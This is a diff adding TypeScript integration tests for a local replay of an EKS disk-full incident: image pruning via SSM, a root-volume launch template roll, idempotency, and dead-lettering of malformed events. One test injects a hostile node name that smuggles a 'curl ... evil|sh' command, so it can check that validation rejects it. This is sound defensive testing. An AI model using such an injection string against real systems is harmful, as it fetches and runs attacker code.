@@ -1,0 +1,215 @@
+import { readFile } from 'node:fs/promises';
+import { DynamoDBClient } from '@aws-sdk/client-dynamodb';
+import {
+  DescribeLaunchTemplateVersionsCommand,
+  EC2Client,
+} from '@aws-sdk/client-ec2';
+import { ListCommandsCommand, SSMClient } from '@aws-sdk/client-ssm';
+import { DynamoDBDocumentClient, GetCommand } from '@aws-sdk/lib-dynamodb';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { LOCAL_NAMES } from '../../cli/local/environment.ts';
+import { blockDevicesOf } from '../../cli/local/fleet.ts';
+import { parseEvents } from '../../cli/local/input.ts';
+import { renderJson, renderTimeline } from '../../cli/local/output.ts';
+import { type LocalRunResult, runLocal } from '../../cli/local/runner.ts';
+import { DETAIL_TYPES } from '../../events/detail-types.ts';
+
+const SEED = new URL('../../events/samples/seed-incident.jsonl', import.meta.url);
+const NODE = 'ip-10-0-1-149.ec2.internal';
+
+const clientsOf = (result: LocalRunResult) => {
+  const config = {
+    endpoint: result.endpoint,
+    region: 'us-east-1',
+    maxAttempts: 1,
+    credentials: { accessKeyId: 'local', secretAccessKey: 'local' },
+  };
+  return {
+    ec2: new EC2Client(config),
+    ssm: new SSMClient(config),
+    documents: DynamoDBDocumentClient.from(new DynamoDBClient(config)),
+  };
+};
+
+const types = (result: LocalRunResult) => result.busEvents.map((e) => e['detail-type']);
+const ofType = (result: LocalRunResult, type: string) =>
+  result.busEvents.filter((e) => e['detail-type'] === type);
+
+describe('Feature: the local runtime replays the seed incident end to end', () => {
+  let result: LocalRunResult;
+
+  beforeAll(async () => {
+    const items = parseEvents(await readFile(SEED, 'utf8'));
+    result = await runLocal({ items, keepMoto: true });
+  });
+  afterAll(async () => {
+    await result.moto?.stop();
+  });
+
+  it('classifies the seed failure as disk_full on the seed node', () => {
+    // Assess
+    const diskFull = ofType(result, DETAIL_TYPES.imagePullFailureClassified).filter(
+      (e) => e.detail.class === 'disk_full'
+    );
+    expect(diskFull).toHaveLength(1);
+    expect(diskFull[0]?.detail).toMatchObject({
+      node: { name: NODE },
+      pod: { namespace: 'inference', name: 'triton-79569cfbbc-m2wcc' },
+      image: '478253497479.dkr.ecr.us-east-1.amazonaws.com/triton:resnet50',
+      remedy: 'prune',
+      dryRun: false,
+    });
+  });
+
+  it('carries, in order, the prune, its completion, the roll, the resolution', () => {
+    // Assess
+    const order = [
+      DETAIL_TYPES.incidentOpened,
+      DETAIL_TYPES.nodePruneRequested,
+      DETAIL_TYPES.ssmCommandInvocationStatusChange,
+      DETAIL_TYPES.nodePruneCompleted,
+      DETAIL_TYPES.volumeRollRequested,
+      DETAIL_TYPES.volumeRollStarted,
+      DETAIL_TYPES.incidentResolved,
+    ];
+    const seen = types(result).filter((t) => (order as string[]).includes(t));
+    expect(seen).toEqual(order);
+    const completed = ofType(result, DETAIL_TYPES.nodePruneCompleted)[0]?.detail;
+    expect(completed).toMatchObject({ status: 'Success', outcome: 'roll' });
+    expect((completed?.report as { bytesFreed: number }).bytesFreed).toBeGreaterThan(0);
+    const roll = ofType(result, DETAIL_TYPES.volumeRollStarted)[0]?.detail;
+    expect(roll).toMatchObject({
+      oldSizeGiB: 20,
+      deviceName: '/dev/xvda',
+      nodegroup: { kind: 'managed', name: 'gpu' },
+      launchTemplate: { oldVersion: 1, newVersion: 2 },
+      rollout: { kind: 'eks-nodegroup-update' },
+    });
+    expect(roll?.newSizeGiB as number).toBeGreaterThanOrEqual(100);
+    const resolved = ofType(result, DETAIL_TYPES.incidentResolved)[0]?.detail;
+    expect(resolved?.mttrSeconds as number).toBeGreaterThan(0);
+  });
+
+  it('leaves a launch template version 2 in EC2 with only the root volume grown', async () => {
+    // Prepare
+    const { ec2 } = clientsOf(result);
+    const node = result.nodes[0];
+
+    // Act
+    const out = await ec2.send(
+      new DescribeLaunchTemplateVersionsCommand({ LaunchTemplateId: node?.launchTemplateId, Versions: ['1', '2'] })
+    );
+
+    // Assess
+    const [v1, v2] = [1, 2].map(
+      (n) => out.LaunchTemplateVersions?.find((v) => v.VersionNumber === n)?.LaunchTemplateData
+    );
+    const [root] = blockDevicesOf(result.fleet.nodes[0] as never);
+    expect(v1?.BlockDeviceMappings).toEqual([root]);
+    expect(v2?.BlockDeviceMappings).toEqual([{ ...root, Ebs: { ...root?.Ebs, VolumeSize: 100 } }]);
+    expect({ ...v2, BlockDeviceMappings: undefined }).toEqual({ ...v1, BlockDeviceMappings: undefined });
+  });
+
+  it('sent one SSM command, kept a resolved incident with its timeline, and told on-call', async () => {
+    // Prepare
+    const { ssm, documents } = clientsOf(result);
+
+    // Act
+    const commands = await ssm.send(new ListCommandsCommand({}));
+    const incident = await documents.send(
+      new GetCommand({ TableName: LOCAL_NAMES.table, Key: { pk: `INCIDENT#live#gpu-inference#${NODE}` } })
+    );
+
+    // Assess
+    expect(commands.Commands?.map((c) => c.DocumentName)).toEqual([LOCAL_NAMES.pruneDocument]);
+    expect(commands.Commands?.[0]?.Parameters).toEqual({ DryRun: ['false'] });
+    expect(incident.Item?.status).toBe('resolved');
+    expect(incident.Item?.record.timeline.map((t: { step: string }) => t.step)).toEqual([
+      'classified',
+      'prune-requested',
+      'prune-completed',
+      'roll-started',
+      'resolved',
+    ]);
+    const chatbot = result.notifications.map((n) => JSON.parse(n.message));
+    expect(chatbot.map((c) => c.metadata.eventType).sort()).toEqual(
+      [
+        DETAIL_TYPES.incidentOpened,
+        DETAIL_TYPES.nodePruneRequested,
+        DETAIL_TYPES.nodePruneCompleted,
+        DETAIL_TYPES.volumeRollStarted,
+        DETAIL_TYPES.incidentResolved,
+      ].sort()
+    );
+    expect(new Set(chatbot.map((c) => c.metadata.threadId)).size).toBe(1);
+  });
+
+  it('says what it filled in moto\'s place, and prints both outputs', () => {
+    // Act
+    const text = renderTimeline(result, 'seed');
+    const json = renderJson(result).split('\n').map((l) => JSON.parse(l));
+
+    // Assess
+    expect(result.notes.some((n) => /moto runs no commands/.test(n.text))).toBe(true);
+    expect(result.notes.some((n) => /UpdateNodegroupVersion .* answered in-process/.test(n.text))).toBe(true);
+    expect(text).toContain('SIMULATED node');
+    expect(text).toContain('/dev/xvda 20 GiB → 100 GiB');
+    expect(json).toHaveLength(result.busEvents.length);
+    expect(Object.keys(json[0] ?? {})).toEqual(['time', 'source', 'detail-type', 'detail']);
+  });
+});
+
+describe('Feature: the same seed events three times prune once and roll once', () => {
+  it('sends one command and creates one launch template version', async () => {
+    // Prepare
+    const items = parseEvents(await readFile(SEED, 'utf8'));
+
+    // Act
+    const result = await runLocal({ items, repeat: 3, keepMoto: true });
+
+    // Assess
+    try {
+      expect(ofType(result, DETAIL_TYPES.nodePruneRequested)).toHaveLength(1);
+      expect(ofType(result, DETAIL_TYPES.volumeRollStarted)).toHaveLength(1);
+      expect(ofType(result, DETAIL_TYPES.incidentOpened)).toHaveLength(1);
+      const { ssm, ec2 } = clientsOf(result);
+      expect((await ssm.send(new ListCommandsCommand({}))).Commands).toHaveLength(1);
+      const versions = await ec2.send(
+        new DescribeLaunchTemplateVersionsCommand({ LaunchTemplateId: result.nodes[0]?.launchTemplateId })
+      );
+      expect(versions.LaunchTemplateVersions).toHaveLength(2);
+    } finally {
+      await result.moto?.stop();
+    }
+  });
+});
+
+describe('Feature: malformed events are dead-lettered with the reason; the rest go on', () => {
+  it('keeps a non-JSON line, a wrong shape and a hostile node name, and still heals the node', async () => {
+    // Prepare
+    const seed = await readFile(SEED, 'utf8');
+    const hostile = JSON.parse(seed.split('\n')[5] as string);
+    hostile.source.host = 'ip-10-0-1-149.ec2.internal;curl${IFS}evil|sh';
+    const wrongShape = { kind: 'Event', reason: 'Failed', type: 'Warning', message: 'no metadata at all' };
+    const input = [
+      '{this is not json',
+      JSON.stringify(wrongShape),
+      JSON.stringify(hostile),
+      seed,
+    ].join('\n');
+
+    // Act
+    const result = await runLocal({ items: parseEvents(input) });
+
+    // Assess
+    const reasons = result.deadLetters.map((d) => `${d.queue}: ${d.reason}`);
+    expect(reasons).toHaveLength(3);
+    expect(reasons).toContainEqual(expect.stringMatching(/^forwarder: line 1: line is not JSON/));
+    expect(reasons).toContainEqual(expect.stringMatching(/^classify: the event does not match its contract: .*metadata/));
+    expect(reasons).toContainEqual(
+      expect.stringMatching(/^classify: the event does not match its contract: .*host: node name must be an RFC 1123 DNS subdomain/)
+    );
+    expect(ofType(result, DETAIL_TYPES.incidentResolved)).toHaveLength(1);
+    expect(JSON.stringify(ofType(result, DETAIL_TYPES.nodePruneRequested))).not.toContain('curl');
+  });
+});
